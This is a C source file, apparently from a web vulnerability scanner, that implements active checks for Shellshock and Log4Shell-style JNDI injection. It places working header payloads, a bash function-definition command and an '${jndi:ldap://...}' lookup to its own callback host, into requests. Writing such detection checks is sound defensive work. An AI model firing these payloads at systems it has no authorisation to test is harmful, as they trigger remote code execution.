/* Active: header fields that reach an interpreter. Shellshock (CVE-2014-6271): CGI programs
 * run by an old bash, which is asked for the sum of two random numbers. JNDI look-ups in
 * logs (CVE-2021-44228 and relatives): only our listener can tell. */
#include "scan/checks/active_private.h"
#include "scan/oob.h"

static bool wants_program(struct str path)
{
	static const struct str ends[] = { STR_INIT(".cgi"), STR_INIT(".sh"), STR_INIT(".pl"), STR_INIT(".fcgi") };
	for (size_t i = 0; i < ARRAY_SIZE(ends); i++)
		if (str_iends(path, ends[i]))
			return true;
	return str_ihas(path, STR("/cgi-bin/")) || str_ihas(path, STR("/cgi/"));
}

static struct str fire(struct probe *p, const struct scan_exchange **ret)
{
	struct active_sum s = active_numbers(p);
	struct str v = probe_printf(p, "() { :;}; echo; echo %.*s$((%.*s+%.*s))%.*s", STR_ARG(s.left), STR_ARG(s.a), STR_ARG(s.b),
				    STR_ARG(s.right));
	struct scan_header h[] = { { STR("User-Agent"), v }, { STR("Referer"), v }, { STR("X-Probe"), v } };
	struct scan_mutation m = { .headers = h, .headers_len = ARRAY_SIZE(h), .fresh = true };
	if (probe_send(p, &m, ret) < 0)
		return STR_NULL;
	return active_find(*ret, probe_printf(p, "%.*s%.*s%.*s", STR_ARG(s.left), STR_ARG(s.sum), STR_ARG(s.right)));
}

static void probe_program(struct probe *p, const struct scan_exchange *file)
{
	const struct scan_exchange *x, *again;
	struct str proof = fire(p, &x);
	if (!proof.ptr)
		return;
	bool sure = fire(p, &again).ptr != NULL;
	probe_report(p, &(struct scan_report){
				.exchange = x,
				.proof = proof,
				.confidence_set = true,
				.confidence = sure ? CONFIDENCE_CERTAIN : CONFIDENCE_FIRM,
				.detail_zh = STR("请求头中的函数定义之后的命令被 bash 执行：响应里出现了随机数之和。"),
				.detail_en = STR("A command behind a function definition in a header was run by bash: the answer holds the sum "
						 "of random numbers."),
			});
}

const struct scan_check check_shellshock = {
	.id = "shellshock",
	.title_zh = "bash 破壳漏洞（Shellshock）",
	.title_en = "Shellshock (bash)",
	.severity = SEVERITY_CRITICAL,
	.cwe = 78,
	.owasp = "A06:2021",
	.place = PLACE_PAGE,
	.wants_file = wants_program,
	.on_file = probe_program,
};

/* ---- JNDI ---- */

static struct str lookup(struct probe *p, struct scan_oob_name *name)
{
	struct str rest = str_from(name->url, 7);
	return probe_printf(p, "${jndi:ldap://%.*s}", STR_ARG(rest));
}

static void expect(struct probe *p, const struct scan_oob_name *name, const struct scan_exchange *x, struct str sent)
{
	probe_oob_expect(p, name->token, SCAN_OOB_ANY,
			 &(struct scan_report){ .exchange = x, .proof = sent,
						.detail_zh = STR("日志组件执行了输入中的 JNDI 查询。"),
						.detail_en = STR("A logging library obeyed a JNDI look-up in the input.") });
}

static void probe_lookup(struct probe *p, const struct scan_point *pt)
{
	struct scan_oob_name name;
	const struct scan_exchange *x;
	bool headers_too = pt->where == WHERE_HEADER && probe_mode(p) != SCAN_DEEP && !active_own_header(pt);
	struct str sent;
	if (!probe_oob_ready(p) || probe_reported(p) || !probe_stack(p, STACK_JAVA | STACK_OTHER))
		return;
	if (!probe_oob_host(p, &name) || (headers_too && !probe_first_point(p)))
		return;
	sent = lookup(p, &name);
	struct scan_header h[] = { { STR("User-Agent"), sent },	 { STR("Referer"), sent }, { STR("X-Forwarded-For"), sent },
				   { STR("X-Api-Version"), sent }, { STR("Accept-Language"), sent } };
	struct scan_mutation m = { .fresh = true };
	if (probe_first_point(p)) { /* with the headers of the request */
		m.headers = h;
		m.headers_len = ARRAY_SIZE(h);
	}
	if (pt->where != WHERE_HEADER) {
		m.value = sent;
		m.value_set = true;
	} else if (!headers_too) {
		m = (struct scan_mutation){ .value = sent, .value_set = true, .fresh = true };
	}
	if (probe_send(p, &m, &x) == 0)
		expect(p, &name, x, sent);
}

/* Sites without any input have a start page to ask. */
static void probe_site_lookup(struct probe *p, const struct scan_exchange *site)
{
	struct scan_oob_name name;
	const struct scan_exchange *x;
	if (!probe_oob_host(p, &name))
		return;
	struct str sent = lookup(p, &name);
	struct scan_header h[] = { { STR("User-Agent"), sent }, { STR("Referer"), sent }, { STR("X-Forwarded-For"), sent },
				   { STR("X-Api-Version"), sent } };
	if (probe_send(p, &(struct scan_mutation){ .headers = h, .headers_len = ARRAY_SIZE(h), .fresh = true }, &x) == 0)
		expect(p, &name, x, sent);
}

const struct scan_check check_jndi_injection = {
	.id = "jndi-injection",
	.title_zh = "JNDI 注入（Log4Shell 一类）",
	.title_en = "JNDI injection (Log4Shell and relatives)",
	.severity = SEVERITY_CRITICAL,
	.cwe = 917,
	.owasp = "A06:2021",
	.modes = SCAN_STANDARD_UP,
	.flags = SCAN_DEEP_POINTS,
	.place = PLACE_POINT,
	.on_point = probe_lookup,
	.on_site = probe_site_lookup,
};
